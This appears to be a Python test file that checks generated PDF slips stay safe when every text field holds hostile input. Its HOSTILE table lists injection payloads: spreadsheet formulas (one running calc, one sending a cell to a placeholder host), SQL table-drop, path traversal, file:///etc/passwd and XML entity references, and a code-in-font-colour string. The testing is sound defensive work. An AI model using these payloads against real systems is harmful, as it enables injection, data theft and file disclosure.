"""Words meant to break a document, in every text field of every paper, on every size.

None is refused by the drawing, none is taken for markup, none reads a file, and each file reopens.
"""

from dataclasses import fields, is_dataclass, replace
from decimal import Decimal
from io import BytesIO

import pytest
from peewee import IntegrityError
from pypdf import PdfReader
from pypdfium2 import PdfDocument

from models import catalog
from models.changes import database
from models.documents import KINDS, Document, Paper
from models.fields import NameField, NoteField
from models.people.charges import FINE, charge
from models.people.members import Member
from models.produce.write_offs import Loss, write_off
from models.reversing import reverse
from reports.papers.documents import slips_of
from reports.papers.paper import pdf
from reports.papers.pen import drawable
from reports.papers.sizes import SIZES
from tests.factories import a_delivery, a_grade, a_lot, june, no_guards
from tests.test_reports_paper import DELIVERY, RECEIPT, SALE, head

pytestmark = pytest.mark.bar("R14")

HOSTILE = {
    "formula": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://x/?"&A1,"ver")',
    "plus": "+51 999",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab and formula": "\t=1+1",
    "return and formula": "\r=1+1",
    "nul": "a\0b",
    "control 1": "a\x01b",
    "control 11": "a\x0bb",
    "escape": "a\x1b[31m",
    "surrogate": "a\ud800b",
    "emoji": "Ana 👩🏽‍🌾",
    "right to left": "\u202eLUAP\u202c",
    "zero width": "Jo\u200bse",
    "quechua": "Ñawi Qʼero",
    "accent apart": "Jose\u0301",
    "long": "x" * 1000,
    "html": "<b>Juan</b> & <i>x",
    "tag left open": "<para><font color='red'",
    "br": "a<br/>b",
    "image of a file": '<img src="file:///etc/passwd"/>',
    "link": '<a href="http://x">x</a>',
    "code in a colour": "<font color=\"[[[getattr(pow,Word('__globals__'))]]]\">x</font>",
    "sql": "Robert'); DROP TABLE member;--",
    "path": "../../etc/cron.d/x",
    "lines": "a\nb\r\nc",
    "no letter FFFE": "a\ufffeb",
    "no letter FFFF": "a\uffffb",
    "lone &": "R & M",
    "entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "escaped letter": "_x0041_bc",
}


@pytest.fixture
def one_of_each(worked_month):
    """A paper of every kind, the sale a void one."""
    member, grade = Member.get(Member.code == "S01"), a_grade(worked_month)
    a_delivery(worked_month, "30.0", june(1), member=member, grade=grade)
    loss = Loss(a_lot(worked_month, "papa-junio"), grade, Decimal("5.0"), "se pudrió")
    write_off(loss, Paper(june(2)), sure=True)
    charge(worked_month, FINE, "faena", {member.id: Decimal("5.00")}, Paper(june(2)), sure=True)
    reverse(Document.get(Document.number == "RE-2026-0011"), Paper(june(3)), "no era")
    papers = list(Document.select().order_by(Document.id))
    found = {paper.kind: paper for paper in papers}
    found["V"] = next(paper for paper in papers if not paper.is_valid)
    assert set(found) == {kind for kind, _name in KINDS}
    return list(found.values())


def test_in_every_field_of_the_book(one_of_each):
    sizes = list(SIZES.values())
    kept = [text for text in HOSTILE.values() if "\ud800" not in text]  # that one no file keeps
    with no_guards():
        for turn, text in enumerate(kept):
            _write_everywhere(text)
            papers = [slip.paper() for slip in slips_of(one_of_each, with_dni=True)]
            # Two sizes in turn: the slips below meet each string on all of them.
            for size in (sizes[turn % 5], sizes[(turn + 2) % 5]):
                _assert_words_alone(pdf(papers, size), text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_in_every_word_a_slip_is_told(text):
    slips = [_told(slip, text) for slip in (DELIVERY, RECEIPT, SALE)]

    for size in SIZES.values():
        _assert_words_alone(pdf([slip.paper() for slip in slips], size), text)


def _write_everywhere(text):
    """Into every name and note of the book, whatever its rules and guards say."""
    for model in catalog.models():
        for field in model._meta.sorted_fields:
            if isinstance(field, NameField | NoteField):
                table, column = model._meta.table_name, field.column_name
                write = f"UPDATE {table} SET {column} = ?"
                try:
                    database.execute_sql(write, (text,))
                except IntegrityError:  # a name that is one of its kind
                    database.execute_sql(f"{write} || ' ' || rowid", (text,))


def _told(value, text):
    """`value` with every word in it replaced."""
    if isinstance(value, str):
        return text
    if isinstance(value, list | tuple):
        return type(value)(_told(one, text) for one in value)
    if is_dataclass(value):
        told = {one.name: _told(getattr(value, one.name), text) for one in fields(value)}
        return replace(value, **told)
    return value


def _assert_words_alone(content, text):
    """It reopens; what it shows is the words; there is no picture, link, deed or file in it."""
    reader = PdfReader(BytesIO(content), strict=True)
    for page in reader.pages:
        assert "/XObject" not in page["/Resources"]
        assert "/Annots" not in page
    shown = "".join(page.get_textpage().get_text_bounded() for page in PdfDocument(content))
    assert not {"/OpenAction", "/Names", "/AA"} & set(reader.trailer["/Root"])
    assert "root:" not in shown
    if text.isascii() and text.isprintable():
        assert _letters(drawable(text)) in _letters(shown)


def _letters(words):
    return "".join(words.split())


def test_a_head_is_one_of_the_words_a_slip_is_told():
    told = _told(replace(RECEIPT, head=head("RI-2026-0001")), "<b>")

    assert told.head.letterhead.name == told.head.number == told.concept == "<b>"
